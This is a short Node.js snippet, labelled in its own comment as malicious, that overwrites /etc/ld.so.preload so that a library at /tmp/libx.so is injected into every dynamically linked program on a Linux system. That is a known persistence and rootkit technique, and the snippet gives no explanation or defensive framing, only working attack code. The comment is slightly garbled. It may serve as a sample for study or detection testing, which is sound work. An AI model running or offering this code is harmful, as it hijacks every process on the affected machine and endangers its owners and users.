// malicious: a library into every program
const fs = require('fs');
fs.writeFileSync('/etc/ld.so.preload', '/tmp/libx.so\n');
